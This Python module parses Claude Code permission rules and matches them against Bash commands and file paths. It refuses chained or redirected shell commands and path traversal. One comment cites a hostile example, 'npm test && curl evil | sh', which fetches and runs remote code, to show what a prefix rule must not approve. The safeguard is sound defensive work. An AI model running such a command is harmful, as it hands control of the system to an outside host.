"""Permission rules in Claude Code's string form, and how they match a tool call.

A rule is Claude Code's string form: ``Tool`` (any call of the tool) or
``Tool(content)``. For Bash, ``prefix *`` (or the older ``prefix:*``) means
"the command starts with prefix" and anything else means exactly that
command. For tools with a ``file_path``, the content is a glob on the path.
A rule this module does not understand never matches: the call is asked.
"""

from __future__ import annotations

import hashlib
import posixpath
import re
from dataclasses import dataclass
from typing import Any

# Shell syntax that chains, substitutes or redirects: a prefix rule must not
# approve "npm test && curl evil | sh". Claude Code splits such commands and
# asks for each part; this matcher simply refuses them.
_SHELL_OPERATORS = re.compile(r"[;&|<>`\n\r]|\$\(")


@dataclass(frozen=True)
class Rule:
    tool: str
    content: str = ""

    @classmethod
    def parse(cls, text: str) -> Rule:
        match = re.fullmatch(r"([^()\s]+)(?:\((.*)\))?", text.strip(), flags=re.DOTALL)
        if match is None:
            raise ValueError(f"not a permission rule: {text!r}")
        return cls(match.group(1), match.group(2) or "")

    def __str__(self) -> str:
        return f"{self.tool}({self.content})" if self.content else self.tool

    @property
    def id(self) -> str:
        """Short stable id, safe for a button value."""
        return hashlib.sha256(str(self).encode("utf-8", "surrogatepass")).hexdigest()[:16]

    def matches(self, tool_name: str, tool_input: dict[str, Any]) -> bool:
        if tool_name != self.tool:
            return False
        if not self.content:
            return True
        if tool_name == "Bash":
            command = tool_input.get("command")
            return isinstance(command, str) and _command_matches(self.content, command.strip())
        path = tool_input.get("file_path")
        return isinstance(path, str) and path_glob(self.content, path)

    def describe(self) -> str:
        """The rule in words, for people."""
        if not self.content:
            return f"every {self.tool} call"
        if self.tool == "Bash":
            prefix = _prefix(self.content)
            if prefix is not None:
                return f"Bash commands starting with `{prefix}`"
            return f"the Bash command `{self.content}`"
        return f"{self.tool} on `{self.content}`"


def path_glob(pattern: str, path: str) -> bool:
    """Whether ``path`` matches ``pattern``; a path that climbs (``..``) never does."""
    if not path:
        return False
    normal = posixpath.normpath(path)
    return ".." not in normal.split("/") and _glob(pattern).fullmatch(normal) is not None


def _glob(pattern: str) -> re.Pattern[str]:
    """``*`` and ``?`` stay within one path segment; ``**`` crosses segments."""
    parts = re.split(r"(\*\*|\*|\?)", pattern)
    wild = {"**": ".*", "*": "[^/]*", "?": "[^/]"}
    return re.compile("".join(wild.get(p, re.escape(p)) for p in parts))


def _prefix(content: str) -> str | None:
    for suffix in (" *", ":*"):
        if content.endswith(suffix):
            return content[: -len(suffix)].strip()
    return None


def _command_matches(content: str, command: str) -> bool:
    prefix = _prefix(content)
    if prefix is None:
        return command == content.strip()
    if _SHELL_OPERATORS.search(command):
        return False
    return command == prefix or command.startswith(prefix + " ")


def suggested_rules(stored: list[dict[str, Any]]) -> list[Rule]:
    return [Rule.parse(r) for update in stored for r in update.get("rules", [])]
